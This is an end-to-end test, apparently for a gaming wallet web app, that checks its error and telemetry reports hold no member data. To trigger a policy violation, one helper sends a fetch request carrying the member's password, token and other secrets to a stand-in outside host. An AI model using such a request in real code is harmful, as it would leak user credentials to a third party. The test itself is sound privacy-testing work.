import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv from 'ajv/dist/2020';
import type { Page } from 'playwright-core';
import { seriousFindings, visit } from '../harness/page/browser';
import { isTakenOver } from '../harness/page/is-taken-over';
import { clearFaults, fund, injectFault, smsCode } from '../harness/stack/operator';
import { slipPicture } from '../harness/stack/payments';
import { openReportReceiver, type Received } from '../harness/network/report-receiver';
import { serveBuild } from '../harness/stack/served';
import { AMOUNT_SCALE, type Market, ON_LAOS } from '../markets';
import { enterBank, enterPhone, enterProfile, PASSWORD } from '../account/register-steps';
import { openTransfer, submitLogin } from '../steps';

/** No figure of a page contains these digits by chance. */
const AMOUNTS = { funded: 86_413, slip: 7_319.25, transfer: 1_347.5, withdraw: 2_971 };

const NAME = 'Wanwisa Reported';
const CHAT_MESSAGE = 'my secret question';

interface Event {
  readonly type: string;
  readonly [field: string]: unknown;
}
const eventsOf = (received: readonly Received[]) =>
  received.flatMap(({ text }) => (JSON.parse(text) as { events: Event[] }).events);

/** The paths in a value that contain one of the secrets or amounts. */
function leaksIn(value: unknown, secrets: readonly string[], amounts: readonly number[], at = ''): string[] {
  if (typeof value === 'object' && value !== null) {
    return Object.entries(value).flatMap(([name, part]) => [
      ...leaksIn(name, secrets, amounts, `${at}/`),
      ...leaksIn(part, secrets, amounts, `${at}/${name}`),
    ]);
  }
  if (typeof value === 'number') return amounts.includes(value) ? [`${at}: ${value}`] : [];
  const text = String(value).toLowerCase();
  const plain = text.replace(/[ ,-]/g, '');
  const found = secrets.filter((secret) => text.includes(secret) || plain.includes(secret));
  const figures = text.replaceAll(',', '').match(/\d+(?:\.\d+)?/g) ?? [];
  const shown = amounts.filter((amount) => figures.map(Number).includes(amount));
  return [...found, ...shown].map((leak) => `${at}: ${leak}`);
}

/** Fails in every way in which a page can, with all of the member's data in the errors. */
async function failInEveryWay(page: Page, secrets: readonly string[]): Promise<void> {
  await page.evaluate((said) => {
    setTimeout(() => {
      throw new TypeError(
        `${said} is not a function\n    at ${said} (${location.origin}/assets/${said}.js:1:2)`,
      );
    });
    void Promise.reject(Object.assign(new Error(said), { name: said }));
    // The policy refuses this.
    fetch(`https://elsewhere.example/${said}?q=${said}`).catch(() => undefined);
    // The statement formats its dates with this method.
    Date.prototype.getUTCFullYear = () => {
      throw new RangeError(`Invalid time value: ${said}`);
    };
  }, secrets.join(' '));
}

async function register(page: Page, market: Market, phone: string, accountNo: string): Promise<string> {
  const { words } = market;
  await page.goto('/register');
  await page.waitForFunction(isTakenOver);
  await enterPhone(page, market, phone);
  await page.getByRole('heading', { name: words.otpTitle }).waitFor();
  const code = await smsCode(phone);
  await page.getByLabel(words.otp, { exact: true }).fill(code);
  await enterProfile(page, market, NAME);
  await enterBank(page, market, accountNo);
  await page.getByRole('button', { name: words.register, exact: true }).click();
  await page.waitForURL('**/login');
  await submitLogin(page, market, phone, PASSWORD);
  await page.waitForURL('**/user/home');
  await page.getByText(NAME).first().waitFor();
  return code;
}

async function moveMoney(page: Page, market: Market, phone: string): Promise<void> {
  const { words } = market;
  const { market: id } = words;
  const size = AMOUNT_SCALE[id];
  const dialog = page.getByRole('dialog');
  const transfer = async () => {
    await openTransfer(page, market, new RegExp(`^(?!${words.wallet})`));
    await dialog.getByLabel(words.amount, { exact: true }).fill(String(AMOUNTS.transfer * size));
    await dialog.getByRole('button', { name: new RegExp(`^${words.transfer}`) }).click();
  };
  await page.goto('/user/home');
  await page.waitForFunction(isTakenOver);
  await transfer();
  await page.getByText(words.done).first().waitFor();
  await page.keyboard.press('Escape');
  await injectFault(id, 'transfer', { kind: 'error', code: 'TRANSFER_FAIL', status: 422, times: 1 });
  await transfer();
  await page.getByRole('alertdialog').getByRole('button', { name: words.close }).first().click();
  await page.getByRole('alertdialog').waitFor({ state: 'hidden' });
  await injectFault(id, 'transfer', { kind: 'cut-after', times: 1 });
  await dialog.getByRole('button', { name: new RegExp(`^${words.transfer}`) }).click();
  await page.getByText(words.unknownTitle).first().waitFor();

  await page.goto('/user/home');
  await page.waitForFunction(isTakenOver);
  await page.getByRole('button', { name: words.withdraw.title, exact: true }).click();
  await page.getByLabel(words.withdraw.amount).fill(String(AMOUNTS.withdraw * size));
  await dialog.getByRole('button', { name: words.next, exact: true }).click();
  await page.getByRole('button', { name: words.withdraw.confirm }).click();
  await page.getByText(words.withdraw.done).waitFor();

  await page.goto('/user/home');
  await page.waitForFunction(isTakenOver);
  await page.getByRole('button', { name: words.deposit.title, exact: true }).click();
  await page.getByRole('button', { name: words.deposit.slip }).click();
  const buffer = await slipPicture(id, phone, AMOUNTS.slip * size);
  await page.locator('input[name=slip]').setInputFiles({ name: 'slip.png', mimeType: 'image/png', buffer });
  await page.getByRole('button', { name: words.deposit.sendSlip, exact: true }).click();
  await page.getByText(words.deposit.slipGood).waitFor();
}

async function chat(page: Page, { words }: Market): Promise<void> {
  await page.goto('/user/contact');
  await page.getByRole('button', { name: words.chat.open }).click();
  const field = page.getByRole('textbox', { name: words.chat.write });
  await field.fill(CHAT_MESSAGE);
  await field.press('Enter');
  await page.getByText(CHAT_MESSAGE).first().waitFor();
}

const KINDS = ['CLS', 'INP', 'LCP', 'crash', 'deviation', 'missing-file', 'outcome', 'policy'];

describe.each(ON_LAOS)('$name build: reports', (market) => {
  const { words } = market;
  const { market: id } = words;
  const dir = () => stack.builds[market.name.toLowerCase()] ?? '';
  afterAll(() => clearFaults());

  test('reports errors, vitals and outcomes in the published format, without any member data', async () => {
    const receiver = await openReportReceiver(`${stack.sandbox}/${id}/api/reports`);
    const settings = { VITE_REPORT_URL: `${receiver.url}/wallet`, VITE_REQUEST_IDS: true };
    const app = await serveBuild({ dir: dir(), api: `${stack.sandbox}/${id}`, settings });
    const { page, context, leave } = await visit(app.url);
    const ids: unknown[][] = [];
    page.on('response', (response) => {
      if (!response.url().endsWith('/api/wallet/transfer')) return;
      ids.push([response.request(), response].map((each) => each.headers()['x-request-id']));
    });
    const phone = market.freshPhone(1);
    const accountNo = `98${phone.slice(-8)}`;
    try {
      const code = await register(page, market, phone, accountNo);
      const size = AMOUNT_SCALE[id];
      await fund(id, phone, AMOUNTS.funded * size);
      await moveMoney(page, market, phone);
      await chat(page, market);

      const token = await page.evaluate(
        () => sessionStorage.getItem('token') ?? localStorage.getItem('token'),
      );
      const { first, last } = market.holder;
      const typed = [PASSWORD, CHAT_MESSAGE, NAME, phone, accountNo, code, first, last, token ?? ''];
      expect(typed.every((each) => each.length > 4)).toBe(true);
      const amounts = Object.values(AMOUNTS).map((amount) => amount * size);

      // An invalid flag for each game, and a page whose code is missing.
      await context.route('**/api/wallet', async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { slots: object[] };
        const slots = body.slots.map((slot) => ({ ...slot, isActive: NAME }));
        await route.fulfill({ response: answer, json: { ...body, slots } });
      });
      await context.route('**/assets/bonus-screen-*.js', (route) => route.abort());
      await page.goto('/user/home');
      await page.waitForFunction(isTakenOver);
      await page.locator('a[href="/user/bonus"]').first().click();
      await page.getByRole('alert').waitFor();
      await failInEveryWay(page, [...typed, ...amounts.map(String)]);
      // React logs errors that its boundaries catch.
      const crashed = page.waitForEvent('console', (said) => said.text().includes('Invalid time value'));
      await page.locator('a[href="/user/statement"]').first().click();
      await crashed;
      await page.goto('about:blank');

      const types = (received: readonly Received[]) => new Set(eventsOf(received).map(({ type }) => type));
      await receiver.until((received) => KINDS.every((kind) => types(received).has(kind)));

      const isReport = new Ajv().compile(
        JSON.parse(readFileSync(join(dir(), 'report.schema.json'), 'utf8')) as object,
      );
      const secrets = typed
        .map((each) => each.toLowerCase())
        .flatMap((each) => [each, each.replace(/^0/, '')]);
      const wrong = receiver.received.flatMap(({ url, headers, text, status }) => {
        const report: unknown = JSON.parse(text);
        return [
          ...(isReport(report) ? [] : [`no report: ${text}`]),
          ...leaksIn(report, secrets, amounts),
          ...leaksIn([url, headers.cookie, headers.authorization, headers.referer], secrets, amounts),
          ...(status === 204 ? [] : [`the sandbox answered ${status} to ${text}`]),
        ];
      });
      expect(wrong).toEqual([]);
      // Proves that the search for leaks finds data that is there.
      for (const planted of [
        ...typed,
        phone.replace(/^(...)(...)/, '$1 $2 '),
        NAME.toUpperCase(),
        ...amounts,
      ]) {
        expect(leaksIn([{ any: planted }], secrets, amounts)).not.toEqual([]);
      }
      for (const amount of amounts) {
        expect(leaksIn({ text: `${amount.toLocaleString('en')} ฿` }, secrets, amounts)).not.toEqual([]);
      }

      // One write succeeds, one is refused, and the third's response is lost between the servers.
      expect(ids.slice(0, 2)).toEqual(
        [0, 1].map((call) => [expect.stringMatching(/^[\da-f]{32}$/), ids[call]?.[0]]),
      );

      const events = eventsOf(receiver.received);
      const transfer = { type: 'outcome', endpoint: 'transfer' };
      const crash = { type: 'crash', route: '/user/bonus' };
      const expected: readonly Readonly<Record<string, unknown>>[] = [
        { ...transfer, outcome: 'done', code: '' },
        { ...transfer, outcome: 'refused', code: 'TRANSFER_FAIL' },
        // The proxy responds in place of the backend whose connection was cut.
        { ...transfer, outcome: 'unknown', code: 'INTERNAL_SERVER_ERROR' },
        { type: 'outcome', endpoint: 'withdrawAll', outcome: 'done', code: '' },
        { type: 'outcome', endpoint: 'uploadSlip', outcome: 'done', code: '' },
        { type: 'deviation', endpoint: 'getWallet', field: 'slots[].isActive', kind: 'emptied' },
        { type: 'missing-file', route: '/user/bonus' },
        { type: 'policy', directive: 'connect-src', blocked: 'https://elsewhere.example' },
        { ...crash, error: 'TypeError', message: 'not-a-function' },
        { ...crash, error: 'other', message: 'other' },
        { ...crash, route: '/user/statement', error: 'RangeError', message: 'invalid-time' },
      ];
      const isTold = (one: Readonly<Record<string, unknown>>) =>
        events.some((event) => Object.entries(one).every(([field, value]) => event[field] === value));
      expect({ untold: expected.filter((one) => !isTold(one)), events }).toEqual({ untold: [], events });
      const statement = events.find(({ type, route }) => type === 'crash' && route === '/user/statement');
      expect(statement?.frames).toContainEqual(expect.stringMatching(/^assets\/[\w.-]+\.js:\d+:\d+$/));
      const withText = receiver.received.filter(
        ({ headers }) => headers['content-type'] !== 'text/plain;charset=UTF-8',
      );
      expect(withText).toEqual([]);

      await page.goto(`${stack.sandbox}/console/reports`);
      await page
        .getByRole('cell', { name: /invalid-time/ })
        .first()
        .waitFor();
      expect(await seriousFindings(page)).toEqual([]);
    } finally {
      await leave();
      await app.close();
      receiver.close();
    }
  });
});
